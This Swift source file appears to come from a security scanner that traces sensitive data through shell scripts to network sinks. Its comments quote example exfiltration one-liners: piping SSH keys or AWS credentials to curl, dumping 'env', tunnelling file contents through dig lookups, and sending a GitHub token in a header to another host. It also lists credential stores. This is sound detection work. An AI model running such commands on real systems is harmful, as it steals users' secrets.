import Foundation
import SkillScanCore
import SkillScanLexers

/// Source → sink flows in one shell script or fenced block: pipelines
/// (`cat ~/.ssh/id_rsa | curl -d @- …`), direct uploads (`curl -F f=@$HOME/.aws/credentials`),
/// substitutions (`curl -d "$(env)"`, `dig $(whoami).x`), variables (`K=$(cat …)`; `curl -d
/// "$K"`) and files written then uploaded (`pbpaste > c.txt`; `curl -F f=@c.txt`).
///
/// One pass over the pipelines in source order plus one reverse pass for substitutions; the
/// variable and file maps are capped by ``FlowLimits``.
enum ShellFlow {
  /// Commands that read the files they are given (so a sensitive path argument is a read).
  static let readers: Set<String> = [
    "cat", "head", "tail", "less", "more", "base64", "xxd", "od", "hexdump", "strings", "tar", "zip",
    "7z", "gzip", "bzip2", "xz", "openssl", "gpg", "sqlite3", "jq", "cp", "grep", "awk", "sed", "sort",
    "uniq", "tac", "nl", "cut", "tr", "type", "get-content", "gc", "bat",
  ]

  /// Readers that take a whole file (not a line or field of it, as `grep KEY= .env` does).
  static let wholeFileReaders: Set<String> = [
    "cat", "head", "tail", "less", "more", "base64", "xxd", "od", "hexdump", "strings", "tar", "zip", "7z",
    "gzip", "bzip2", "xz", "openssl", "gpg", "cp", "tac", "nl", "type", "get-content", "gc", "bat",
  ]

  /// Commands that write a capture to the file named by their last operand.
  static let capturers: Set<String> = ["screencapture", "scrot", "grim", "gnome-screenshot", "import"]

  static func analyze(
    _ pipelines: [ShellPipeline], bytes: [UInt8], loops: [ShellLoopBinding] = [], seed: [String: FlowSource] = [:]
  ) -> [FlowHit] {
    run(pipelines, bytes: bytes, loops: loops, seed: seed).hits
  }

  /// The variables holding sensitive data once the script has run: what a script that
  /// sources it (`. "$HERE/lib/paths.sh"`) starts with (see ``SourcedShell``).
  static func variables(after pipelines: [ShellPipeline], bytes: [UInt8], loops: [ShellLoopBinding] = []) -> [String: FlowSource] {
    run(pipelines, bytes: bytes, loops: loops, seed: [:]).vars
  }

  private static func run(
    _ pipelines: [ShellPipeline], bytes: [UInt8], loops: [ShellLoopBinding], seed: [String: FlowSource]
  ) -> (hits: [FlowHit], vars: [String: FlowSource]) {
    let all = pipelines
    var state = State(bytes: bytes)
    state.vars = seed
    var nextLoop = 0
    // Substitutions first (children follow parents in the array): what each one outputs.
    for index in all.indices.reversed() where all[index].isSubstitution {
      let p = all[index]
      var stream: FlowSource?
      for (c, command) in p.commands.enumerated() {
        stream = FlowSource.stronger(stream, state.source(of: command, at: (index, c)))
      }
      if let stream, let parent = p.parentPipeline, let cmd = p.parentCommand {
        state.childSources[state.key(parent, cmd)] = FlowSource.stronger(state.childSources[state.key(parent, cmd)], stream)
      }
    }
    var hits: [FlowHit] = []
    var ends: [(range: Range<Int>, stream: FlowSource?)] = []
    for (index, pipeline) in all.enumerated() {
      // `for f in $FILES; do … done`: the loop variable holds what the list held, from the
      // loop header on (headers come in source order, like the pipelines).
      while nextLoop < loops.count, loops[nextLoop].offset < pipeline.range.lowerBound {
        let loop = loops[nextLoop]
        nextLoop += 1
        var source: FlowSource?
        if loop.readsFile, let file = loop.words.first {
          // `done < "$WORK/chunks"`: each line read is what the file holds.
          let path = file.trimmingCharacters(in: CharacterSet(charactersIn: "\"'"))
          source = FlowSource.stronger(state.files[State.normalize(path)], ExfilSources.classify(path: path).map {
            FlowSource(kind: $0.kind, label: $0.label, range: loop.offset..<loop.offset + 5)
          })
          if let source { state.vars[loop.name] = source }
          continue
        }
        for word in loop.words {
          source = FlowSource.stronger(source, state.tainted(word))
          // `for k in ~/.ssh/id_*`: the paths are written out.
          let path = word.trimmingCharacters(in: CharacterSet(charactersIn: "\"'"))
          if let m = ExfilSources.classify(path: path) {
            source = FlowSource.stronger(source, FlowSource(kind: m.kind, label: m.label, range: loop.offset..<loop.offset + 3))
          }
        }
        if let source { state.vars[loop.name] = source }
      }
      // `(env; cat ~/.aws/credentials) | curl --data-binary @- …`: the parser ends a
      // pipeline at each parenthesis, so what the group printed is joined here.
      // `{ env; cat .env; } > "$OUT"`: the redirection after the group's close reads as a
      // command of its own, and the group's output is what it writes.
      let redirectsGroup = pipeline.commands.count == 1 && pipeline.commands[0].words.isEmpty
        && pipeline.commands[0].assignments.isEmpty && !pipeline.commands[0].redirections.isEmpty
      let grouped = pipeline.isSubstitution
        ? nil : Self.groupOutput(before: pipeline.range.lowerBound, bytes, ends, piped: !redirectsGroup)
      var stream: FlowSource? = grouped
      // Whether the stream is a file's bytes, or those bytes encoded as text.
      var fileBytes = false
      var encoded = false
      for (c, command) in pipeline.commands.enumerated() {
        let own = state.source(of: command, at: (index, c))
        let name = command.name(in: bytes)
        let readsFile = Self.readsFile(command, name: name, bytes)
        encoded = encoded || (Self.encoders.contains(name) && (readsFile || fileBytes))
        fileBytes = (fileBytes && c > 0) || readsFile
        if let sink = ExfilShellSink.recognize(command, bytes: bytes) {
          let fromStream = sink.readsStdin && (c > 0 || grouped != nil) ? stream : nil
          var sent = FlowSource.stronger(fromStream, state.sentSource(sink, command, at: (index, c)))
          // A file's bytes, encoded and cut into labels of DNS names (`base32 < "$f" | fold
          // -w 60 | while read -r c; do dig "$c.$i.zone"`), are a tunnel whatever the file:
          // no lookup needs a file's contents in its name.
          if sent == nil, sink.channel == .dns, sink.data.contains(where: state.carriesEncodedFile) {
            sent = FlowSource(kind: .system, label: "a file's contents, encoded into DNS names,", range: command.range)
          }
          if let source = sent {
            let host = sink.host.map { $0.contains("$") ? nil : $0 } ?? nil
            hits.append(FlowHit(
              source: source, sinkRange: command.range, sinkName: command.effectiveName(in: bytes),
              host: host ?? sink.url.flatMap(state.resolvedHost)))
          }
        } else if let get = Self.queryCarrier(command, name: name, bytes), let source = state.tainted(get.sent) {
          // `curl "https://host/c?d=$KEY"`: a GET carries what its URL's path and query hold.
          hits.append(FlowHit(source: source, sinkRange: command.range, sinkName: name, host: get.host))
        } else if let carried = state.headerCarrier(command, name: name, at: (index, c)) {
          hits.append(FlowHit(source: carried.source, sinkRange: command.range, sinkName: name, host: carried.host))
        }
        // `… | while read -r line; do …`: each line read is what flowed into the loop.
        if c > 0, c == pipeline.commands.count - 1, name == "read" {
          for target in Self.readTargets(command, bytes) {
            if let fed = stream { state.vars[target] = FlowSource.stronger(state.vars[target], fed) }
            if encoded { state.encodedFileVars.insert(target) }
          }
        }
        stream = FlowSource.stronger(c == 0 && grouped == nil ? nil : stream, own)
        state.record(command, stream: stream, at: (index, c))
        if name == "git" || name == "cd" || name == "pushd", let hit = state.gitStep(command, name: name) { hits.append(hit) }
      }
      if !pipeline.isSubstitution {
        if ends.count == Self.maxGroupedPipelines { ends.removeFirst(ends.count / 2) }
        ends.append((pipeline.range, stream))
      }
    }
    return (hits, state.vars)
  }

  /// The part after the host of a `curl`/`wget` URL with a variable in it, and the host.
  static func queryCarrier(_ command: ShellCommand, name: String, _ bytes: [UInt8]) -> (sent: String, host: String?)? {
    guard name == "curl" || name == "wget" else { return nil }
    for arg in ExfilShellSink.arguments(command, bytes) where arg.utf8.contains(0x24) {
      guard let scheme = ByteSearch.firstIndex(of: Array("://".utf8), in: Array(arg.utf8)) else { continue }
      let afterHost = arg.utf8.dropFirst(scheme + 3).drop { $0 != 0x2F && $0 != 0x3F }
      guard afterHost.contains(0x24) else { continue }
      let host = ExfilHosts.host(inURL: arg).flatMap { $0.utf8.contains(0x24) ? nil : $0 }
      return (String(decoding: afterHost, as: UTF8.self), host)
    }
    return nil
  }

  /// Commands that turn bytes into text that fits a URL or a DNS label.
  static let encoders: Set<String> = ["base32", "base64", "basenc", "xxd", "od", "hexdump"]

  /// Whether `command` reads a file: input redirected from one (`< "$f"`), or a whole-file
  /// reader or encoder given an operand.
  static func readsFile(_ command: ShellCommand, name: String, _ bytes: [UInt8]) -> Bool {
    if command.redirections.contains(where: { ByteText.string($0.op.range, in: bytes) == "<" && $0.target != nil }) { return true }
    guard wholeFileReaders.contains(name) || encoders.contains(name) else { return false }
    return command.words.dropFirst().contains { word in
      guard let first = bytes[word.range].first else { return false }
      return first != UInt8(ascii: "-")
    }
  }

  /// The variables `read` assigns: its operands, and the array of `-a NAME`.
  static func readTargets(_ command: ShellCommand, _ bytes: [UInt8]) -> [String] {
    var names: [String] = []
    var takesValue = false
    for word in command.words.dropFirst() where word.range.count <= 64 {
      let text = ShellWord.unquotedValue(word, bytes)
      if takesValue {
        takesValue = false
        continue
      }
      if text.hasPrefix("-") {
        // `-d`, `-n`, `-N`, `-p`, `-t`, `-u` take a value; `-a NAME` names an array, read
        // here as an operand.
        takesValue = ["-d", "-n", "-N", "-p", "-t", "-u"].contains(text)
        continue
      }
      if text.utf8.allSatisfy({ UTF8Scalar.isWordByte($0) && $0 < 0x80 || $0 == 0x5F }) { names.append(text) }
    }
    return names
  }

  /// Pipelines remembered for ``groupOutput(before:_:_:)`` (the most recent ones).
  static let maxGroupedPipelines = 256
  /// Bytes read back for the group's opening parenthesis.
  static let groupReach = 4_096
  /// Pipelines a group may hold.
  static let maxGroupMembers = 16

  /// What a `( … )` or `{ …; }` group ending just before `start` (then `|`, when `piped`)
  /// printed: the output of the pipelines inside it. Nil when `start` does not follow `) |`
  /// or `} |` (`)` or `}` unpiped).
  static func groupOutput(
    before start: Int, _ bytes: [UInt8], _ ends: [(range: Range<Int>, stream: FlowSource?)], piped: Bool = true
  ) -> FlowSource? {
    guard !ends.isEmpty else { return nil }
    var i = min(start, bytes.count) - 1
    func skipBlanks() { while i >= 0, bytes[i] == 0x20 || bytes[i] == 0x09 { i -= 1 } }
    skipBlanks()
    if piped {
      guard i >= 1, bytes[i] == UInt8(ascii: "|"), bytes[i - 1] != UInt8(ascii: "|") else { return nil }
      i -= 1
      skipBlanks()
    }
    guard i >= 0, bytes[i] == UInt8(ascii: ")") || bytes[i] == UInt8(ascii: "}") else { return nil }
    let close = i
    let (open, shut) = bytes[close] == UInt8(ascii: ")") ? (UInt8(ascii: "("), UInt8(ascii: ")")) : (UInt8(ascii: "{"), UInt8(ascii: "}"))
    var depth = 0
    var k = close
    // A group of at most ``maxGroupMembers`` pipelines opens after the end of the pipeline
    // before them: the read back stops there, so `) | a ) | a …` costs a few bytes per pipe.
    var stop = max(0, close - groupReach)
    if ends.count > maxGroupMembers { stop = max(stop, ends[ends.count - maxGroupMembers - 1].range.upperBound) }
    while k >= stop {
      if bytes[k] == shut { depth += 1 } else if bytes[k] == open {
        depth -= 1
        if depth == 0 { break }
      }
      k -= 1
    }
    guard k >= stop, depth == 0 else { return nil }
    var found: FlowSource?
    for end in ends.reversed() {
      if end.range.upperBound <= k { break }
      if end.range.lowerBound > k, end.range.upperBound <= close { found = FlowSource.stronger(found, end.stream) }
    }
    return found
  }

  /// Variables and files known to hold sensitive data, and substitution outputs.
  struct State {
    let bytes: [UInt8]
    var vars: [String: FlowSource] = [:]
    var files: [String: FlowSource] = [:]
    /// Folders holding a file in ``files`` (up to ``folderDepth`` levels up), so an archive of
    /// the staging folder (`tar -czf out.tgz "$WORK"`) carries what was copied into it.
    var folders: [String: FlowSource] = [:]
    var folderRecords = 0
    var childSources: [Int: FlowSource] = [:]
    /// Variables assigned a URL (`API_BASE="${API_BASE:-https://molt.church}"`), so a send to
    /// `"$API_BASE/api/join"` has a destination host.
    var urlVars: [String: String] = [:]
    /// Variables holding lines of a file's encoded bytes (see ``ShellFlow/encoders``).
    var encodedFileVars: Set<String> = []
    /// Variables assigned a path (`CACHE="$BUNDLE/site/.cache"`), the folder `cd` entered,
    /// what `git add` staged from a folder holding sensitive copies, and the remotes added
    /// with a literal address (see ``gitStep(_:name:)``).
    var pathVars: [String: String] = [:]
    var cwd: String?
    var gitStaged: FlowSource?
    var gitRemotes: [String: String] = [:]
    /// Hosts of remote addresses held in variables (`MIRROR="git@host:$(whoami).git"`).
    var addressVars: [String: String] = [:]

    /// Whether `text` references a variable holding a file's encoded bytes.
    func carriesEncodedFile(_ text: String) -> Bool {
      !encodedFileVars.isEmpty && text.utf8.contains(0x24) && Self.variableNames(in: text).contains(where: encodedFileVars.contains)
    }

    func key(_ p: Int, _ c: Int) -> Int { p << 32 | c }  // no collision at any pipeline length

    /// The sensitive data `command` outputs (reads, source commands, tainted inputs).
    func source(of command: ShellCommand, at position: (Int, Int)) -> FlowSource? {
      var found = childSources[key(position.0, position.1)]
      let raw = command.name(in: bytes).lowercased()
      let (effective, nameWritten) = command.effectiveCommandAndName(in: bytes)
      let name = nameWritten.lowercased()
      if raw == "env" && effective.words.isEmpty && command.words.count == 1 {
        return FlowSource(kind: .environment, label: "env", range: command.range)
      }
      // Arguments are decoded only for commands that can be a source by name, read files or
      // echo values: decoding every command's arguments was most of this function's cost.
      let leads = name.isEmpty || ExfilSources.mayLead(commandName: name)
      let readsArguments = Self.isReader(name) || name == "curl" || name == "wget" || name == "echo" || name == "printf"
        || name == "find"
      let args = leads || readsArguments ? ExfilShellSink.arguments(effective, bytes) : []
      if name == "find", let m = SecretFileSearch.match(findArguments: args) {
        found = FlowSource.stronger(found, FlowSource(kind: m.kind, label: m.label, range: command.range))
      }
      if leads, let m = ExfilSources.classify(commandLine: ([name] + args).joined(separator: " ")) {
        found = FlowSource.stronger(found, FlowSource(kind: m.kind, label: m.label, range: command.range))
      }
      if Self.isReader(name) || name == "curl" || name == "wget" {
        for arg in args where !arg.hasPrefix("-") || arg.contains("/") {
          if let m = ExfilSources.classify(path: arg), name != "curl" || m.label.contains("metadata") {
            found = FlowSource.stronger(found, FlowSource(kind: m.kind, label: m.label, range: command.range))
          }
          if let f = files[Self.normalize(arg)] { found = FlowSource.stronger(found, f) }
        }
        if Self.archivers.contains(name) {
          for folder in Self.archivedFolders(args) { found = FlowSource.stronger(found, folders[folder]) }
        }
      }
      for r in command.redirections where ByteText.string(r.op.range, in: bytes) == "<" {
        guard let t = r.target, t.range.count <= ExfilShellSink.maxWordBytes else { continue }
        let path = ShellWord.unquotedValue(t, bytes)
        if let m = ExfilSources.classify(path: path) {
          found = FlowSource.stronger(found, FlowSource(kind: m.kind, label: m.label, range: command.range))
        }
        if let f = files[Self.normalize(path)] { found = FlowSource.stronger(found, f) }
        // `base64 < "$f"` reads the file a variable names.
        found = FlowSource.stronger(found, tainted(path))
      }
      if name == "echo" || name == "printf" || Self.isReader(name) {
        for arg in args { found = FlowSource.stronger(found, tainted(arg)) }
      }
      return found
    }

    static func isReader(_ name: String) -> Bool { readers.contains(name) }

    /// The host of a sink URL that starts with a variable holding a URL.
    func resolvedHost(_ url: String) -> String? {
      guard url.hasPrefix("$"), let expanded = Self.expandURL(url, urlVars) else { return nil }
      guard let host = ExfilHosts.host(inURL: expanded), !host.contains("$") else { return nil }
      return host
    }

    /// `text` with a leading `$NAME`, `${NAME}` or `${NAME:-default}` replaced by the URL the
    /// variable holds (or by the default when it holds none); nil when it cannot be resolved.
    /// Only the leading reference is expanded: the host sits there.
    static func expandURL(_ text: String, _ urlVars: [String: String]) -> String? {
      guard text.hasPrefix("$") else { return text.contains("://") ? text : nil }
      let body = text.dropFirst()
      if body.hasPrefix("{") {
        guard let close = body.firstIndex(of: "}") else { return nil }
        let inner = body[body.index(after: body.startIndex)..<close]
        let rest = body[body.index(after: close)...]
        let name = inner.prefix { $0.isLetter || $0.isNumber || $0 == "_" }
        var value = urlVars[String(name)]
        if value == nil, let dash = inner.firstIndex(of: "-") {
          let fallback = inner[inner.index(after: dash)...]
          if fallback.contains("://") { value = String(fallback) }
        }
        return value.map { $0 + rest }
      }
      let name = body.prefix { $0.isLetter || $0.isNumber || $0 == "_" }
      return urlVars[String(name)].map { $0 + body.dropFirst(name.count) }
    }

    /// The sensitive data a sink sends through its arguments, files or substitutions.
    func sentSource(_ sink: ExfilShellSink, _ command: ShellCommand, at position: (Int, Int)) -> FlowSource? {
      var found = childSources[key(position.0, position.1)]
      for file in sink.files {
        if let m = ExfilSources.classify(path: file) {
          found = FlowSource.stronger(found, FlowSource(kind: m.kind, label: m.label, range: command.range))
        }
        found = FlowSource.stronger(found, files[Self.normalize(file)])
        found = FlowSource.stronger(found, tainted(file))
      }
      for value in sink.data { found = FlowSource.stronger(found, tainted(value)) }
      // `curl "https://host/c?d=$KEY"`: a value in the URL's path or query is sent too (the
      // host part is where it goes, not what).
      if let url = sink.url, let scheme = ByteSearch.firstIndex(of: Array("://".utf8), in: Array(url.utf8)) {
        let afterHost = url.utf8.dropFirst(scheme + 3).drop { $0 != 0x2F && $0 != 0x3F }
        found = FlowSource.stronger(found, tainted(String(decoding: afterHost, as: UTF8.self)))
      }
      return found
    }

    /// `curl -H "Authorization: token $(gh auth token)" https://other.host/…`: a request whose
    /// headers carry a credential store's secret (a token a CLI prints, a credentials file
    /// read into a variable) to a literal host that is not the store's own vendor.
    ///
    /// Headers are how a token is meant to be used, so the environment's API keys in a header
    /// stay ordinary calls, and a CLI's token sent to its own service is authentication; a
    /// GitHub token in a request to someone else's server is the token leaving.
    func headerCarrier(_ command: ShellCommand, name: String, at position: (Int, Int)) -> (source: FlowSource, host: String)? {
      guard name == "curl" || name == "wget" else { return nil }
      let args = ExfilShellSink.arguments(command, bytes)
      var headers: [String] = []
      var host: String?
      var i = 0
      while i < args.count {
        let arg = args[i]
        if arg == "-H" || arg == "--header", i + 1 < args.count {
          headers.append(args[i + 1])
          i += 2
          continue
        }
        if arg.hasPrefix("--header=") {
          headers.append(String(arg.dropFirst(9)))
        } else if host == nil, !arg.hasPrefix("-"), ByteSearch.contains(arg, "://") {
          host = ExfilHosts.host(inURL: arg)
        }
        i += 1
      }
      guard !headers.isEmpty, let host, !host.utf8.contains(0x24) else { return nil }
      var source: FlowSource?
      for header in headers { source = FlowSource.stronger(source, tainted(header)) }
      // A substitution written in a header: what the command's substitutions printed.
      if headers.contains(where: { ByteSearch.contains($0, "$(") || $0.utf8.contains(0x60) }) {
        source = FlowSource.stronger(source, childSources[key(position.0, position.1)])
      }
      guard let source, source.kind == .credential, !source.isSigningKey,
        let vendors = Self.headerStores[source.storeLabel], !Self.isWithin(host, vendors)
      else { return nil }
      return (source, host)
    }

    /// Stores whose secret in a header is theft outside the listed services: a CLI's token
    /// belongs to its vendor's API (sending it there is logging in), keys, cookies and
    /// wallets belong in no header at all. A keyring or keychain item the script names is how
    /// a tool keeps its own API token, whichever service that is, so those are not listed.
    static let headerStores: [String: [String]] = [
      "GitHub CLI token": ["github.com", "githubusercontent.com", "ghe.com"],
      "gcloud access token": ["googleapis.com", "google.com"],
      "gcloud credentials": ["googleapis.com", "google.com"],
      "AWS credentials": ["amazonaws.com", "aws.amazon.com"],
      "Azure credentials": ["azure.com", "microsoft.com", "windows.net", "microsoftonline.com"],
      "Docker credentials": ["docker.io", "docker.com"],
      "Claude credentials": ["anthropic.com", "claude.ai"],
      "SSH private key": [], "~/.ssh": [], "browser cookies": [], "browser saved passwords": [],
      "browser key store": [], "crypto wallet": [], "agent sessions": [],
    ]

    /// Whether `host` is one of `domains` or under one.
    static func isWithin(_ host: String, _ domains: [String]) -> Bool {
      let lowered = host.lowercased()
      return domains.contains { lowered == $0 || lowered.hasSuffix("." + $0) }
    }

    /// A tainted variable referenced in `text` (`$K`, `${K}`).
    func tainted(_ text: String) -> FlowSource? {
      guard !vars.isEmpty, text.contains("$") else { return nil }
      var found: FlowSource?
      for name in Self.variableNames(in: text) { found = FlowSource.stronger(found, vars[name]) }
      return found
    }

    /// Remembers what `command` leaves behind: tainted variables, files and captures.
    mutating func record(_ command: ShellCommand, stream: FlowSource?, at position: (Int, Int)) {
      let child = childSources[key(position.0, position.1)]
      for assignment in command.assignments {
        let text = assignment.range.count > ExfilShellSink.maxWordBytes
          ? ByteText.string(assignment.range.lowerBound..<(assignment.range.lowerBound + 256), in: bytes)
          : ShellWord.unquotedValue(assignment, bytes)
        guard let eq = text.firstIndex(of: "=") else { continue }
        // `KEYS+=$(…)` appends to `KEYS`.
        var name = String(text[..<eq])
        if name.hasSuffix("+") { name.removeLast() }
        let value = Self.withoutIdentityOptions(String(text[text.index(after: eq)...]))
        var source = command.words.isEmpty ? child : nil
        if let m = ExfilSources.classify(path: value) {
          source = FlowSource.stronger(source, FlowSource(kind: m.kind, label: m.label, range: command.range))
        }
        source = FlowSource.stronger(source, tainted(value))
        if let source { vars[name] = source }
        if value.contains("://"), let url = Self.expandURL(value, urlVars) { urlVars[name] = url }
        if value.contains("@") || value.contains("://"), addressVars.count < 64, let host = Self.gitHost(value) { addressVars[name] = host }
        if value.contains("/"), !value.contains("$("), value.utf8.count < 512, pathVars.count < Self.maxPathVars {
          pathVars[name] = Self.normalize(value)
        }
      }
      let (effective, nameWritten) = command.effectiveCommandAndName(in: bytes)
      let name = nameWritten.lowercased()
      // Only the commands read below need their arguments decoded.
      let args = Self.recordedByArguments.contains(name) || capturers.contains(name) ? ExfilShellSink.arguments(effective, bytes) : []
      if name == "export" || name == "declare" || name == "local" || name == "readonly" {
        for arg in args where arg.contains("=") {
          let parts = arg.split(separator: "=", maxSplits: 1).map(String.init)
          var source = child
          if let m = ExfilSources.classify(path: parts.count > 1 ? parts[1] : "") {
            source = FlowSource(kind: m.kind, label: m.label, range: command.range)
          }
          if let source { vars[parts[0]] = source }
        }
      }
      if let stream {
        for r in command.redirections {
          let op = ByteText.string(r.op.range, in: bytes)
          guard op.hasSuffix(">") || op.hasSuffix(">>"), !op.hasPrefix("2"), let t = r.target else { continue }
          remember(ShellWord.unquotedValue(t, bytes), stream)
        }
        if name == "tee" { for arg in args where !arg.hasPrefix("-") { remember(arg, stream) } }
      }
      let operands = args.filter { !$0.hasPrefix("-") }
      if capturers.contains(name), name != "import" || args.contains("root"), let out = operands.last {
        files[Self.normalize(out)] = FlowSource(kind: .personal, label: "screenshot", range: command.range)
      }
      if (name == "cp" || name == "tar" || name == "zip" || name == "7z"), let stream = source(of: command, at: position) {
        let out = name == "cp" ? operands.last : (name == "tar" ? Self.tarOutput(args) : operands.first { $0 != "a" })
        if let out { remember(out, stream) }
      }
    }

    /// Records that the file at `path` holds `stream`, and that each folder above it (up to
    /// ``folderDepth`` levels) holds it too.
    mutating func remember(_ path: String, _ stream: FlowSource) {
      let key = Self.normalize(path)
      files[key] = stream
      // A staging folder holds a handful of files; the first ``maxFolderRecords`` writes
      // mark their folders, so a script of a million copies pays for a thousand.
      guard folderRecords < Self.maxFolderRecords else { return }
      folderRecords += 1
      var folder = Substring(key)
      for _ in 0..<Self.folderDepth {
        guard let slash = folder.lastIndex(of: "/"), slash > folder.startIndex else { break }
        folder = folder[..<slash]
        let name = String(folder)
        folders[name] = FlowSource.stronger(folders[name], stream)
      }
    }

    static let folderDepth = 4
    static let maxFolderRecords = 1_024

    /// Commands that pack a folder given as an operand.
    static let archivers: Set<String> = ["tar", "zip", "7z"]

    /// The folders an archiver's operands name: `"$WORK"`, `"$WORK/"`, the `$(basename
    /// "$WORK")` of `-C "$(dirname "$WORK")"`, and `.` after `-C DIR`.
    static func archivedFolders(_ args: [String]) -> [String] {
      var out: [String] = []
      var changeDir: String?
      var takesDir = false
      for arg in args.prefix(64) {
        if takesDir {
          changeDir = arg
          takesDir = false
          continue
        }
        if arg == "-C" || arg == "--directory" {
          takesDir = true
          continue
        }
        if arg.hasPrefix("--directory=") {
          changeDir = String(arg.dropFirst(12))
          continue
        }
        guard !arg.hasPrefix("-") else { continue }
        var path = arg
        if path.hasPrefix("$(basename "), path.hasSuffix(")") {
          path = String(path.dropFirst(11).dropLast()).trimmingCharacters(in: CharacterSet(charactersIn: "\"' "))
        } else if path == "." || path == "./", let dir = changeDir {
          path = dir
        }
        while path.count > 1, path.hasSuffix("/") { path.removeLast() }
        out.append(normalize(path))
      }
      return out
    }

    /// An array of options (`OPTS=(-i "$KEY" -P 22)`, `OPTS+=(-o IdentityFile=$KEY)`,
    /// `EXCLUDES=(--exclude='id_rsa')`) without the key file it names: `scp "${OPTS[@]}" f
    /// host:` authenticates with the key, and `rsync "${EXCLUDES[@]}"` leaves it out; neither
    /// sends it. Other values are returned unchanged.
    static func withoutIdentityOptions(_ value: String) -> String {
      guard value.hasPrefix("(") else { return value }
      var kept: [Substring] = []
      var skipNext = false
      for element in value.split(separator: " ") {
        if skipNext {
          skipNext = false
          continue
        }
        let lower = element.lowercased()
        if ["-i", "(-i", "--identity", "--identity-file", "-identity", "--exclude", "(--exclude", "--exclude-from", "(--exclude-from"].contains(lower) {
          skipNext = true
          continue
        }
        if lower.hasPrefix("identityfile=") || lower.hasPrefix("(identityfile=") { continue }
        // `--exclude='id_rsa'` keeps a key out of a copy: the opposite of reading it.
        if ["--exclude=", "(--exclude=", "--exclude-from=", "(--exclude-from="].contains(where: lower.hasPrefix) { continue }
        kept.append(element)
      }
      return kept.joined(separator: " ")
    }

    /// Commands whose arguments `record` reads (besides the capturers).
    static let recordedByArguments: Set<String> = ["export", "declare", "local", "readonly", "tee", "cp", "tar", "zip", "7z"]

    static func tarOutput(_ args: [String]) -> String? {
      for (i, a) in args.enumerated() {
        if a.hasPrefix("--file=") { return String(a.dropFirst(7)) }
        // `-czf OUT` or `--file OUT`; a long option that merely holds an f
        // (`--ignore-failed-read`) names no output.
        guard a == "--file" || (a.hasPrefix("-") && !a.hasPrefix("--") && a.contains("f")) else { continue }
        if i + 1 < args.count { return args[i + 1] }
      }
      // Old-style bundled options without a dash (`tar czf out.tgz …`): the first word is
      // the option cluster, and `f` takes the next word.
      if let first = args.first, !first.hasPrefix("-"), first.count <= 8, first.contains("f"),
        first.allSatisfy({ "cxtrujzJvfpaPhS".contains($0) }), args.count > 1
      {
        return args[1]
      }
      return nil
    }

    /// Paths compare without a leading `./`.
    /// `${NAME}` is written `$NAME`, so `tar -czf "$OUT"` and `-F "f=@${OUT}"` meet.
    static func normalize(_ path: String) -> String {
      var p = path.hasPrefix("./") ? String(path.dropFirst(2)) : path
      if ByteSearch.contains(p, "${") { p = bracesDropped(p) }
      return p
    }

    /// `${NAME}` references (plain names only) rewritten as `$NAME`.
    static func bracesDropped(_ text: String) -> String {
      var out: [UInt8] = []
      let u = Array(text.utf8)
      out.reserveCapacity(u.count)
      var i = 0
      while i < u.count {
        if u[i] == UInt8(ascii: "$"), i + 1 < u.count, u[i + 1] == UInt8(ascii: "{") {
          var k = i + 2
          while k < u.count, u[k] == 0x5F || (u[k] | 0x20 >= 0x61 && u[k] | 0x20 <= 0x7A) || (u[k] >= 0x30 && u[k] <= 0x39) { k += 1 }
          if k < u.count, u[k] == UInt8(ascii: "}"), k > i + 2 {
            out.append(UInt8(ascii: "$"))
            out.append(contentsOf: u[(i + 2)..<k])
            i = k + 1
            continue
          }
        }
        out.append(u[i])
        i += 1
      }
      return String(decoding: out, as: UTF8.self)
    }

    /// Names referenced as `$NAME` or `${NAME}` in `text`.
    static func variableNames(in text: String) -> [String] {
      var names: [String] = []
      let u = Array(text.utf8)
      var i = 0
      while i < u.count, names.count < 32 {
        guard u[i] == UInt8(ascii: "$") else {
          i += 1
          continue
        }
        var k = i + 1
        if k < u.count, u[k] == UInt8(ascii: "{") { k += 1 }
        let start = k
        while k < u.count, u[k] == UInt8(ascii: "_") || (u[k] | 0x20 >= 0x61 && u[k] | 0x20 <= 0x7A) || (u[k] >= 0x30 && u[k] <= 0x39) {
          k += 1
        }
        if k > start { names.append(String(decoding: u[start..<k], as: UTF8.self)) }
        i = max(k, i + 1)
      }
      return names
    }
  }
}
